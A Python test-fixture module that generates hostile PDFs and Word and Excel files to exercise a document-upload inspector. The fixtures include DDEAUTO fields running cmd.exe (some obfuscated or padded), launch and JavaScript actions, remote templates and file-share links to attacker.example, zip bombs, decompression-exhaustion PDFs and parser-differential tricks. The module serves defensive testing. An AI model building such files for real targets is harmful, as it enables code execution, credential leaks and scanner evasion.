"""Hostile evidence documents, made on the spot: each is what its name says, built with the libraries a real one
would be (pypdf writes the PDFs), so the inspection meets the structures real files carry."""

from __future__ import annotations

import functools
import io
import struct
import zipfile

from sample_submissions.evidence import sample_docx, sample_pdf


def _pdf_writer():
    from pypdf import PdfWriter

    return PdfWriter(clone_from=io.BytesIO(sample_pdf("Board paper")))


def _written(w) -> bytes:
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def javascript_pdf() -> bytes:
    from pypdf.actions import JavaScript

    w = _pdf_writer()
    w.add_open_action(JavaScript("app.alert('hello');"))
    return _written(w)


def launch_action_pdf() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    w = _pdf_writer()
    w._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    return _written(w)


def embedded_file_pdf() -> bytes:
    w = _pdf_writer()
    w.add_attachment("payload.exe", b"MZ" + bytes(200))
    return _written(w)


def encrypted_pdf() -> bytes:
    w = _pdf_writer()
    w.encrypt("secret", algorithm="AES-128")
    return _written(w)


MACRO_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    '</Types>')


def macro_docx() -> bytes:
    """A Word document with a VBA project, as Word saves a .docm (here under a .docx name)."""
    return sample_docx(extra={"word/vbaProject.bin": OLE_MAGIC + bytes(504)}, content_types=MACRO_CONTENT_TYPES)


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def encrypted_docx() -> bytes:
    """What Word writes for a password-protected .docx: an OLE compound file (version 3, 512-byte sectors) whose
    streams are EncryptionInfo and EncryptedPackage.  Written here by hand (no program on this machine writes
    one); the streams are 4 KiB each, so they live in ordinary sectors and no mini stream is needed."""
    info = struct.pack("<HHI", 4, 4, 0x40) + bytes(4096 - 8)  # agile encryption's version 4.4
    package = struct.pack("<Q", 1000) + bytes(range(256)) * 15 + bytes(4096 - 8 - 3840)
    sector = 512
    n_info, n_package = len(info) // sector, len(package) // sector
    fat = [_FAT, _END]  # sector 0: the FAT itself; sector 1: the directory
    first_info = 2
    fat += [first_info + i + 1 for i in range(n_info - 1)] + [_END]
    first_package = first_info + n_info
    fat += [first_package + i + 1 for i in range(n_package - 1)] + [_END]
    fat += [_FREE] * (128 - len(fat))

    def entry(name: str, kind: int, start: int, size: int, left=_FREE, right=_FREE, child=_FREE) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", left, right, child) + bytes(16) + bytes(4) + bytes(16)
                + struct.pack("<IQ", start, size))

    directory = (entry("Root Entry", 5, _END, 0, child=1)
                 + entry("EncryptionInfo", 2, first_info, len(info), right=2)
                 + entry("EncryptedPackage", 2, first_package, len(package))
                 + bytes(128))
    header = (OLE_MAGIC + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    assert len(header) == 512 and len(directory) == 512
    return header + struct.pack("<128I", *fat) + directory + info + package


def zip_bomb_docx(inflated: int = 60 << 20) -> bytes:
    """A package with Word's parts whose document inflates to `inflated` bytes of almost nothing."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sample_docx())) as good, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED,
                                                                             compresslevel=9) as zf:
        for name in good.namelist():
            if name != "word/document.xml":
                zf.writestr(name, good.read(name))
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            block = b" " * (1 << 20)
            for _ in range(inflated >> 20):
                fh.write(block)
    return buf.getvalue()


def oversized_pdf(size: int = 26_214_400 + 1) -> bytes:
    """A real PDF padded with a comment to `size` bytes (25 MB + 1 byte by default)."""
    head = sample_pdf("Large")
    return head + b"\n%" + b"x" * (size - len(head) - 2)


def nested_content_types_docx(levels: int = 1_500_000) -> bytes:
    """Word's parts, with elements nested `levels` deep in the content types (parsed whole: gigabytes as a
    tree), one-letter names at random so that the part compresses as text does, not as a zip bomb."""
    from tests.hostile import _random_letters, _tags

    names = _random_letters(levels, 3)
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sample_docx())) as good, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED,
                                                                             compresslevel=1) as zf:
        for name in good.namelist():
            data = good.read(name)
            if name == "[Content_Types].xml":
                cut = data.rindex(b"</")
                data = data[:cut] + _tags(b"<?>", names) + _tags(b"</?>", names[::-1]) + data[cut:]
            zf.writestr(name, data)
    return buf.getvalue()


def second_archive_docx() -> bytes:
    """A Word document holding a second archive, with macros, for a zip reader that picks the earlier end record
    (decision record 0057)."""
    from tests.hostile import two_archives

    return two_archives(sample_docx(), macro_docx())


def object_streams_pdf(streams: int, inflated: int) -> bytes:
    """A one-page PDF whose catalog names `streams` objects, each kept in an object stream of its own that
    inflates to `inflated` bytes (under pypdf's own limit for one stream): reading each object means inflating
    its whole stream, and a fresh attack made a 348 KB file cost 25.7 s of processor time and 454 MB this way."""
    import zlib

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def obj(num: int, body: bytes) -> None:
        offsets[num] = len(out)
        out.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")

    named = b" ".join(b"%d 0 R" % (10 + i) for i in range(streams))
    obj(1, b"<</Type/Catalog/Pages 2 0 R/Extra[" + named + b"]>>")
    obj(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    obj(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>")
    held = {}
    for i in range(streams):
        head = (b"%d 0 " % (10 + i)).ljust(20)
        packed = zlib.compress(head + b"<</A 1>>" + b" " * (inflated - len(head) - 8), 9)
        obj(1000 + i, b"<</Type/ObjStm/N 1/First 20/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed
            + b"\nendstream")
        held[10 + i] = 1000 + i
    xref = 1000 + streams + 1
    at = len(out)
    rows = bytearray()
    for n in range(xref + 1):
        if n in offsets or n == xref:
            rows += b"\x01" + offsets.get(n, at).to_bytes(4, "big") + b"\x00\x00"
        elif n in held:
            rows += b"\x02" + held[n].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % (xref, xref + 1, len(rows))
            + bytes(rows) + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at)
    return bytes(out)


@functools.cache
def _deflated_zeros(count: int) -> bytes:
    """`count` zero bytes deflated raw, as the end of a stream (the final block)."""
    import zlib

    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    return squeeze.compress(bytes(count)) + squeeze.flush()


def _deflated_with_zeros(head: bytes, zeros: int) -> bytes:
    """What `zlib.compress(head + bytes(zeros))` inflates to, made without deflating the zeros again for every head:
    `head` is deflated and flushed whole (a full flush ends on a byte boundary and forgets what came before), so the
    zeros' deflated blocks that follow are the same for every head and are made once."""
    import struct
    import zlib

    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = squeeze.compress(head) + squeeze.flush(zlib.Z_FULL_FLUSH) + _deflated_zeros(zeros)
    checksum = zlib.adler32(bytes(zeros), zlib.adler32(head))
    return b"\x78\xda" + body + struct.pack(">I", checksum)


def cross_reference_chain_pdf(sections: int, padding: int) -> bytes:
    """A one-page PDF read through `sections` cross-reference streams, each naming the one before (`/Prev`)
    and inflating to `padding` bytes more than its entries: the reader inflates every one of them."""

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num, body in ((1, b"<</Type/Catalog/Pages 2 0 R>>"), (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
                      (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>")):
        offsets[num] = len(out)
        out.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")
    previous = None
    for k in range(sections):
        num = 10 + k
        offsets[num] = at = len(out)
        rows = b"".join(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" if n in offsets
                        else b"\x00\x00\x00\x00\x00\xff\xff" for n in range(num + 1))
        packed = _deflated_with_zeros(rows, padding)
        prev = b"/Prev %d" % previous if previous is not None else b""
        out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R%s/Filter/FlateDecode/Length %d>>stream\n"
                % (num, num + 1, prev, len(packed)) + packed + b"\nendstream\nendobj\n")
        previous = at
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % previous)


# ---------------------------------------------------------------- Office documents that run code or reach out
# Each is what Word or Excel would open and act on (decision record 0060); the chart's workbook is the control.

_W = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relationships(*rels: tuple[str, str, str]) -> bytes:
    """A relationships part: (type, target, target mode) each; the type under officeDocument's relationships
    unless it is a whole URI."""
    listed = "".join(f'<Relationship Id="rId{n}" Type="{kind if "://" in kind else f"{_REL}/{kind}"}" '
                     f'Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
                     for n, (kind, target, mode) in enumerate(rels, 1))
    return f'<Relationships xmlns="{_PKG}">{listed}</Relationships>'.encode()


def _docx(body: str = "<w:p><w:r><w:t>Board paper</w:t></w:r></w:p>", parts: dict[str, bytes] | None = None) -> bytes:
    from sample_submissions.evidence import _DOCX_PARTS

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        parts = dict(parts or {})
        for name, part in _DOCX_PARTS.items():
            zf.writestr(name, parts.pop(name, part))
        document = f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W}><w:body>{body}</w:body></w:document>'
        zf.writestr("word/document.xml", parts.pop("word/document.xml", None) or document)
        for name, data in parts.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _mark(kind: str) -> str:
    """A run marking where a complex field begins, where its result starts (`separate`) or where it ends."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code(text: str) -> str:
    """A run of a complex field's code (escaped as XML text)."""
    from xml.sax.saxutils import escape

    return f'<w:r><w:instrText xml:space="preserve">{escape(text)}</w:instrText></w:r>'


def dde_field_docx(simple: bool = False) -> bytes:
    """A field that runs a command when the document opens, its code split over two runs as Word may write it
    (or as a simple field)."""
    command = "c:\\\\windows\\\\system32\\\\cmd.exe"
    if simple:
        return _docx(f'<w:p><w:fldSimple w:instr=" DDEAUTO {command} &quot;/k calc&quot;"/></w:p>')
    return _docx("<w:p>" + _mark("begin") + _code(" DD") + _code(f'EAUTO {command} "/k calc"') + _mark("end")
                 + "</w:p>")


def simple_field_docx(code: str) -> bytes:
    """A document with one simple field of the code given (a button, a printer instruction)."""
    from xml.sax.saxutils import quoteattr

    return _docx(f"<w:p><w:fldSimple w:instr={quoteattr(code)}/></w:p>")


def remote_template_docx() -> bytes:
    """A document attached to a template on another server, which Word fetches (and runs, if it holds macros)."""
    return _docx(parts={
        "word/settings.xml": f'<w:settings {_W}><w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
        "word/_rels/document.xml.rels": _relationships(("settings", "settings.xml", "")),
        "word/_rels/settings.xml.rels": _relationships(
            ("attachedTemplate", "http://attacker.example/board-template.dotm", "External")),
    })


def activex_docx() -> bytes:
    """An ActiveX control, kept outside the usual folder and named only by the document's relationship."""
    return _docx('<w:p><w:r><w:object><w:control r:id="rId1" w:name="Button1"/></w:object></w:r></w:p>', parts={
        "word/_rels/document.xml.rels": _relationships(("control", "controls/c1.xml", "")),
        "word/controls/c1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                                b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
    })


def ole_object_docx() -> bytes:
    """A legacy Word file embedded as an OLE object (the kind refused on its own: it can carry macros unseen)."""
    return _docx(parts={"word/_rels/document.xml.rels": _relationships(("oleObject", "embeddings/o1.bin", "")),
                        "word/embeddings/o1.bin": OLE_MAGIC + bytes(504)})


def linked_picture_docx() -> bytes:
    """A picture the document fetches from a file share when it opens."""
    return _docx(parts={"word/_rels/document.xml.rels": _relationships(
        ("image", "file:///\\\\attacker.example\\share\\logo.png", "External"))})


def chart_docx(embedded: bytes | None = None) -> bytes:
    """A document with a chart whose data is an embedded workbook, as Word writes it: the control, accepted;
    with `embedded`, that document instead of the chart's workbook."""
    from sample_submissions.evidence import sample_xlsx

    return _docx(parts={
        "word/_rels/document.xml.rels": _relationships(("chart", "charts/chart1.xml", "")),
        "word/charts/chart1.xml": b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
        "word/charts/_rels/chart1.xml.rels": _relationships(("package", "../embeddings/Book1.xlsx", "")),
        "word/embeddings/Book1.xlsx": embedded or sample_xlsx(),
    })


def _xlsx_with(parts: dict[str, bytes], workbook_relationships: tuple[str, str, str]) -> bytes:
    from sample_submissions.evidence import sample_xlsx

    data = sample_xlsx()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == "xl/_rels/workbook.xml.rels":
                extra = _relationships(workbook_relationships).split(b">", 1)[1].rsplit(b"<", 1)[0]
                content = content.replace(b"</Relationships>", extra.replace(b'Id="rId1"', b'Id="rIdX"')
                                          + b"</Relationships>")
            dst.writestr(info.filename, content)
        for name, content in parts.items():
            dst.writestr(name, content)
    return out.getvalue()


def macro_sheet_xlsx() -> bytes:
    """An Excel 4 macro sheet, kept outside the usual folder and named by the workbook's relationship only."""
    return _xlsx_with({"xl/other/m1.xml": b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/'
                                          b'2006/main"/>'},
                      ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "other/m1.xml", ""))


def external_link_xlsx(folder: str = "externalLinks", file: str = "externalLink1.xml") -> bytes:
    """A link to a workbook on a file share (kept in `xl/{folder}/{file}`, where Excel keeps it unless told)."""
    return _xlsx_with({
        f"xl/{folder}/{file}": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        f"xl/{folder}/_rels/{file}.rels": _relationships(
            ("externalLinkPath", "file:///\\\\attacker.example\\share\\x.xlsx", "External"))},
        ("externalLink", f"{folder}/{file}", ""))


# ---------------------------------------------------------------- PDFs written object by object

def plain_pdf(*objects: bytes) -> bytes:
    """A PDF of the given objects (numbered from 1; the first is the catalog) with a cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, at)
    return bytes(out)


def _pdf_with(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """A one-page PDF; objects in `more` are numbered from 4."""
    return plain_pdf(b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page_extra + b" >>", *more)


def indirect_launch_pdf() -> bytes:
    """A launch action whose type is kept in an object of its own."""
    return _pdf_with(b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R /Win << /F (cmd.exe) /P (/c calc) >> >>", b"/Launch")


def parent_field_javascript_pdf() -> bytes:
    """A form field's script, the field reached only through its widget's /Parent."""
    return _pdf_with(b"/AcroForm << /Fields [] >>", b"/Annots [4 0 R]",
                     b"<< /Type /Annot /Subtype /Widget /Rect [72 600 300 630] /P 3 0 R /Parent 5 0 R >>",
                     b"<< /FT /Tx /T (amount) /Kids [4 0 R] /AA << /F << /S /JavaScript /JS (app.alert(1)) >> >> >>")


def xfa_pdf() -> bytes:
    """An XFA form, whose scripts a viewer that reads XFA runs."""
    xfa = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
           b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template>'
           b"</xdp:xdp>")
    return _pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"",
                     b"<< /Length %d >>\nstream\n" % len(xfa) + xfa + b"\nendstream")


def remote_go_to_pdf() -> bytes:
    """A PDF that opens another on a file share as it opens."""
    return _pdf_with(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")


def nested_arrays_pdf(arrays: int) -> bytes:
    """One object of `arrays` arrays of 99,999 empty arrays each (each within the reader's limit for one array):
    the reader builds them all as it reads the object."""
    return _pdf_with(b"/Extra 4 0 R", b"", b"[" + (b"[" + b"[]" * 99_999 + b"]") * arrays + b"]")


def thread_action_pdf() -> bytes:
    """An article action that opens a PDF on a file share as the document opens."""
    return _pdf_with(b"/OpenAction << /S /Thread /F (annex.pdf) /D 0 >>")


def file_uri_pdf() -> bytes:
    """A link whose address is a file on another computer."""
    return _pdf_with(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                                              b"/A << /S /URI /URI (file://attacker.example/share/annex.pdf) >> >>")


def media_pdf() -> bytes:
    """A sound played as the document opens."""
    return _pdf_with(b"/OpenAction << /S /Sound /Sound 4 0 R >>", b"", b"<< /Length 0 >>\nstream\n\nendstream")


def imported_chunk_docx() -> bytes:
    """A document that imports another (altChunk), which Word merges in as it opens."""
    return _docx('<w:altChunk r:id="rId1"/>', parts={
        "word/_rels/document.xml.rels": _relationships(("aFChunk", "chunk.docx", "")),
        "word/chunk.docx": dde_field_docx(),
    })


def include_field_docx() -> bytes:
    """A field that fetches a document from a file share when it updates."""
    share = "\\\\\\\\attacker.example\\\\share\\\\x.docx"
    return _docx(f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{share}&quot;"/></w:p>')


def connections_xlsx() -> bytes:
    """A workbook that fetches a file from a share when it opens (a data connection refreshed on load)."""
    return _xlsx_with({"xl/connections.xml": CONNECTIONS},
                      ("connections", "connections.xml", ""))


CONNECTIONS = (b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
               b'name="annex" type="6" refreshOnLoad="1"><textPr sourceFile="\\\\attacker.example\\share\\a.csv"/>'
               b"</connection></connections>")


def unknown_action_pdf() -> bytes:
    """An action of a kind no list of harmful ones names, on opening."""
    return _pdf_with(b"/OpenAction << /S /ExecuteSomething /F (x) >>")


def plain_links_pdf() -> bytes:
    """What a report holds: a link within the document, a web link, a viewer command, a bookmark's action."""
    return _pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", b"/Annots [4 0 R 5 0 R]",
                     b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.england.nhs.uk/) "
                     b"/Next << /S /Named /N /NextPage >> >> >>",
                     b"<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] /Dest [3 0 R /Fit] >>")


def add_in_docx() -> bytes:
    """An Office add-in's task pane, which loads a web page as the document opens."""
    return _docx(parts={
        "_rels/.rels": _relationships(
            ("officeDocument", "word/document.xml", ""),
            ("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
             "word/webextensions/taskpanes.xml", "")),
        "word/webextensions/taskpanes.xml": b'<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/'
                                            b'webextensions/taskpanes/2010/11"/>'})


def strict_field_docx() -> bytes:
    """A field in a document written in the Strict namespace (the same field in the usual one is refused)."""
    return _docx(parts={"word/document.xml": (
        '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body><w:p><w:fldSimple '
        'w:instr=" INCLUDEPICTURE &quot;http://attacker.example/p.png&quot;"/></w:p></w:body></w:document>'
    ).encode()})


def mail_merge_docx() -> bytes:
    """A mail merge whose data source is a database, queried as the document opens."""
    return _docx(parts={
        "word/settings.xml": f'<w:settings {_W}><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                             '<w:connectString w:val="DSN=x;SERVER=attacker.example"/><w:query w:val="SELECT 1"/>'
                             "</w:mailMerge></w:settings>".encode(),
        "word/_rels/document.xml.rels": _relationships(("settings", "settings.xml", ""))})


def computed_field_docx() -> bytes:
    """A field whose kind is computed by a QUOTE field nested at the start of its code (D D E A U T O by their
    character codes), a published way of hiding a DDE field."""
    return _docx("<w:p>" + _mark("begin") + _mark("begin") + _code("QUOTE 68 68 69 65 85 84 79") + _mark("end")
                 + _code(' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + _mark("end") + "</w:p>")


def scheme_link_pdf(uri: bytes) -> bytes:
    """A link whose address is of another scheme than a web or mail address."""
    return _pdf_with(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                                              b"/A << /S /URI /URI (" + uri + b") >> >>")


_PICTURE_NS = ('xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
               'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')


def hyperlink_typed_picture_docx(as_hyperlink: bool = False,
                                 target: str = "file:///\\\\attacker.example\\share\\logo.png") -> bytes:
    """A picture that names the file share it is fetched from through a relationship typed as a hyperlink;
    `as_hyperlink`: the same relationship used as what it says it is, a hyperlink to `target`."""
    rels = {"word/_rels/document.xml.rels": _relationships(("hyperlink", target, "External"))}
    if as_hyperlink:
        return _docx(f'<w:p><w:hyperlink {_PICTURE_NS} r:id="rId1"><w:r><w:t>Board paper</w:t></w:r></w:hyperlink>'
                     '</w:p>', parts=rels)
    return _docx(f'<w:p><w:r><w:drawing><a:graphic {_PICTURE_NS}><a:graphicData><a:blip r:link="rId1"/>'
                 '</a:graphicData></a:graphic></w:drawing></w:r></w:p>', parts=rels)


def part_moved_docx(make, old: str, new: str) -> bytes:
    """The document `make()` builds with its part `old` kept as `new`, named so by the relationship and the
    content types that name it: Word finds parts by relationship and type, never by name."""
    data = make()
    out = io.BytesIO()
    folder = old.rpartition("/")[0] + "/"
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        for name in names:
            content = src.read(name)
            if name == old:
                name = new
            elif name == "[Content_Types].xml":
                content = content.replace(f'PartName="/{old}"'.encode(), f'PartName="/{new}"'.encode())
                if f'PartName="/{new}"'.encode() not in content:
                    kind = old.rpartition("/")[2].removesuffix(".xml") + ("" if old.endswith("settings.xml")
                                                                          else ".main")
                    content = content.replace(b"</Types>", f'<Override PartName="/{new}" ContentType="application/'
                                                           f'vnd.openxmlformats-officedocument.wordprocessingml.'
                                                           f'{kind}+xml"/></Types>'.encode())
            elif name.endswith(".rels"):
                content = content.replace(f'Target="{old}"'.encode(), f'Target="/{new}"'.encode())
                content = content.replace(f'Target="{old.removeprefix(folder)}"'.encode(), f'Target="/{new}"'.encode())
            dst.writestr(name, content)
    return out.getvalue()


def duplicate_key_pdf(kind: str) -> bytes:
    """A PDF naming a key twice in one dictionary, the first value harmless and the second not: pypdf keeps the
    first, poppler the last (found by a fresh attack)."""
    if kind == "open-action":
        return _pdf_with(b"/OpenAction 4 0 R /OpenAction 5 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>",
                         b"<< /S /JavaScript /JS (app.alert('ran');) >>")
    if kind == "action-kind":
        return _pdf_with(b"/OpenAction 4 0 R", b"", b"<< /Type /Action /S /URI /URI (https://example.org/) /S /Launch "
                                                    b"/Win << /F (cmd.exe) /P (/c calc) >> >>")
    return _pdf_with(b"/Names 4 0 R /Names 5 0 R", b"", b"<< /Dests << /Names [] >> >>",
                     b"<< /JavaScript << /Names [(x) 6 0 R] >> >>", b"<< /S /JavaScript /JS (app.alert('names');) >>")


def hyperlink_field_docx(code: str, simple: bool = False) -> bytes:
    """A HYPERLINK field with the given code (its target written in the code, with no relationship)."""
    if simple:
        from xml.sax.saxutils import quoteattr

        return _docx(f"<w:p><w:fldSimple w:instr={quoteattr(code)}><w:r><w:t>annex</w:t></w:r></w:fldSimple></w:p>")
    return _docx("<w:p>" + _mark("begin") + _code(code) + _mark("separate") + "<w:r><w:t>annex</w:t></w:r>"
                 + _mark("end") + "</w:p>")


def part_stored_twice_docx() -> bytes:
    """A document whose settings' relationships are stored twice: the first copy attaches a template kept on
    another computer, the second is empty (Gnumeric's zip reader reads the first copy of a name, others the
    last; found by a fresh attack)."""
    import warnings

    data = _docx(parts={"word/_rels/document.xml.rels": _relationships(("settings", "settings.xml", "")),
                        "word/settings.xml": f"<w:settings {_W}/>".encode()})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # (zipfile warns of a duplicate name: what this document is made of)
            dst.writestr("word/_rels/settings.xml.rels", _relationships(
                ("attachedTemplate", "http://attacker.example/board-template.dotm", "External")))
            dst.writestr("word/_rels/settings.xml.rels", _relationships())
    return out.getvalue()


def embedded_by_encoded_name_docx(target: str = "embeddings/Board%20paper.docx",
                                  stored: str = "word/embeddings/Board paper.docx") -> bytes:
    """A document embedding, whole, a document with a DDE field, named by a percent-encoded relationship target
    (found by a fresh attack: the embedded document was never opened)."""
    return _docx(parts={"word/_rels/document.xml.rels": _relationships(("package", target, "")),
                        stored: dde_field_docx()})


def padded_field_docx(code: str = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', padding: str = " " * 5000
                      ) -> bytes:
    """A field whose code starts with `padding` in a run of its own (found by a fresh attack: the code was read
    only as far as its first 4,096 characters, all white space)."""
    return _docx("<w:p>" + _mark("begin") + _code(padding) + _code(code) + _mark("end") + "</w:p>")


def object_defined_twice_pdf(points_at: str = "nowhere", second: bytes = b"4") -> bytes:
    """A PDF defining its page's link twice, a web link first and a script second, its cross-reference entry
    pointing at `nowhere` (pypdf then takes the first definition it finds, poppler the last), the `first` or the
    `last` (found by a fresh attack); the second definition's number written as `second`."""
    out = bytearray(b"%PDF-1.7\n")
    at: dict[int, list[int]] = {}

    def add(n: int, body: bytes, written: bytes | None = None) -> None:
        at.setdefault(n, []).append(len(out))
        out.extend((written or b"%d" % n) + b" 0 obj\n" + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>")
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A %s >>"
    add(4, link % b"<< /S /URI /URI (https://example.org/) >>")
    add(4, link % b"<< /S /JavaScript /JS (app.alert\\(1\\);) >>", second)
    xref = len(out)
    out.extend(b"xref\n0 5\n0000000000 65535 f \n")
    for n in range(1, 5):
        offset = at[n][0] if n != 4 else {"nowhere": 9, "first": at[4][0], "last": at[4][1]}[points_at]
        out.extend(b"%010d 00000 n \n" % offset)
    out.extend(b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return bytes(out)
